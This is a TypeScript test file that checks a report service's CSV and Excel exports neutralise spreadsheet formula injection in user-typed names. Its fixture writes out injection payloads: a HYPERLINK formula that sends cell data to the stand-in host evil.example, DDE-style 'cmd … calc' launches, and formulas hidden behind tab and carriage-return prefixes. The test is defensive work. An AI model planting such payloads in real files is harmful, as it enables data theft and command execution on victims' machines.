/**
 * Issue 10, item 6: report exports that cannot attack. Names people type (a project by an
 * engineer, a supplier by an admin, a stack and its elements, their own user names) reach the
 * CSV; a cell starting with =, +, -, @, tab or carriage return would run as a formula in a
 * spreadsheet program, so it gets a leading apostrophe. Numbers stay numbers, and the workbook
 * keeps every name as a text cell, never a formula.
 */
import ExcelJS from "exceljs";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { projects } from "@backend/db/schema";
import { csvCell, inertText } from "@backend/services/report-sheets";
import { startTestApp, type TestApp } from "../harness";
import { insertFinishedStudy, ownedStack, LARKFIELD, parseCsv } from "../report-fixtures";

const NAMES = {
  project: '=HYPERLINK("http://evil.example/?"&A1,"open")',
  supplier: "@SUM(1+1)*cmd|' /C calc'!A0",
  stack: "\t=1+2",
  element: "-2+3+cmd|' /C calc'!A0",
  engineer: "+1+1",
  reviewer: "\r=2*3",
};

let t: TestApp;
const c: Record<string, string> = {};
let reportId: string;
let csv: string;

async function download(path: string) {
  const res = await fetch(t.url + path, { headers: { cookie: c.engineer } });
  expect(res.status).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

beforeAll(async () => {
  t = await startTestApp();
  for (const role of ["admin", "engineer", "reviewer"]) c[role] = await t.signIn(`${role}@example.com`);
  // each person names themselves through the auth routes
  for (const role of ["engineer", "reviewer"] as const) {
    const r = await t.call("POST", "/api/auth/update-user", { cookie: c[role], body: { name: NAMES[role] } });
    expect(r.status, JSON.stringify(r.body)).toBe(200);
  }
  const supplier = await t.call("POST", "/api/suppliers", { cookie: c.admin, body: { name: NAMES.supplier, kind: "assembly" } });
  expect(supplier.status, JSON.stringify(supplier.body)).toBe(201);
  const project = await t.call("POST", "/api/projects", { cookie: c.engineer, body: { name: NAMES.project } });
  expect(project.status, JSON.stringify(project.body)).toBe(201);
  const [p] = await t.handle.db.select().from(projects).where(eq(projects.id, project.body.id));

  // the stack as an engineer wrote it: its name, an element's name, the supplier as owner (by id)
  const stack = ownedStack();
  stack.name = NAMES.stack;
  for (const e of stack.elements) {
    for (const tol of [e.bondLine?.heightTol, e.placementTol?.yawDeg]) if (tol?.owner === LARKFIELD) tol.owner = supplier.body.id;
  }
  stack.elements.find((e) => e.id === "gyro")!.name = NAMES.element;
  const fixture = await insertFinishedStudy(t.handle.db, { workspaceId: p.workspaceId, projectId: p.id, stack });
  const draft = await t.call("POST", `/api/studies/${fixture.studyId}/reports`, {
    cookie: c.engineer,
    body: { supplierId: supplier.body.id },
  });
  expect(draft.status, JSON.stringify(draft.body)).toBe(201);
  reportId = draft.body.id;
  const released = await t.call("POST", `/api/reports/${reportId}/release`, {
    cookie: c.reviewer,
    body: { comment: "ok" },
    headers: { "if-match": draft.headers.get("etag")! },
  });
  expect(released.status, JSON.stringify(released.body)).toBe(200);
  csv = (await download(`/api/reports/${reportId}/csv`)).toString("utf8").slice(1);
}, 180_000); // a study result and a released report's three files are made here
afterAll(async () => t?.close());

const fact = (rows: string[][], key: string) => rows.find((r) => r[0] === key)?.[1];

describe("the report CSV neutralises formulas", () => {
  it("every name that could start a formula is written with a leading apostrophe", () => {
    const rows = parseCsv(csv);
    expect(fact(rows, "Project")).toBe(`'${NAMES.project}`);
    expect(fact(rows, "Supplier")).toBe(`'${NAMES.supplier}`);
    expect(fact(rows, "Stack name")).toBe(`'${NAMES.stack}`);
    expect(fact(rows, "Prepared by")).toBe(`'${NAMES.engineer}`);
    // names set through the auth routes are trimmed first (a leading CR never reaches the file);
    // what remains still starts a formula and is neutralised
    expect(fact(rows, "Released by")).toBe(`'${NAMES.reviewer.trim()}`);
    const start = rows.findIndex((r) => r.length === 1 && r[0].startsWith("Tolerances"));
    const head = rows[start + 1];
    const gyro = rows.slice(start + 2).find((r) => r[0] === "gyro.bondLine")!;
    expect(gyro[head.indexOf("Element")]).toBe(`'${NAMES.element}`);
    // no cell anywhere starts a formula
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it("numbers stay numbers, negative ones too", () => {
    const rows = parseCsv(csv);
    // each tolerance table (one per unit) under its title, up to the blank line
    const lower: string[] = [];
    rows.forEach((r, start) => {
      if (r.length !== 1 || !r[0].startsWith("Tolerances")) return;
      const head = rows[start + 1];
      const at = head.findIndex((h) => h.startsWith("Lower limit"));
      expect(at, head.join(",")).toBeGreaterThanOrEqual(0);
      const end = rows.findIndex((x, k) => k > start && x.length === 1 && x[0] === "");
      lower.push(...rows.slice(start + 2, end).map((x) => x[at]));
    });
    expect(lower.length).toBeGreaterThan(0);
    expect(lower.some((v) => v.startsWith("-"))).toBe(true);
    for (const v of lower) expect(Number.isFinite(Number(v))).toBe(true);
    expect(fact(rows, "Stack revision")).toBe("1");
    // the only cells starting with "-" are numbers
    for (const r of rows) for (const cell of r) if (cell.startsWith("-")) expect(Number.isFinite(Number(cell))).toBe(true);
  });

  it("a cell starting with a tab or a carriage return is neutralised too, and stays one quoted CSV field", () => {
    expect(inertText("\r=2*3")).toBe("'\r=2*3");
    expect(inertText("\t=1+2")).toBe("'\t=1+2");
    expect(csvCell("\r=2*3")).toBe(`"'\r=2*3"`);
    expect(csvCell(-2.5)).toBe("-2.5");
    expect(inertText("plain name")).toBe("plain name");
  });

  it("the workbook keeps each name as a text cell, never a formula", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await download(`/api/reports/${reportId}/xlsx`)) as unknown as ArrayBuffer);
    let names = 0;
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          if (Object.values(NAMES).some((n) => n === String(cell.value) || n.trim() === String(cell.value))) {
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            names++;
          }
        }),
      ),
    );
    expect(names).toBeGreaterThanOrEqual(5);
  });
});
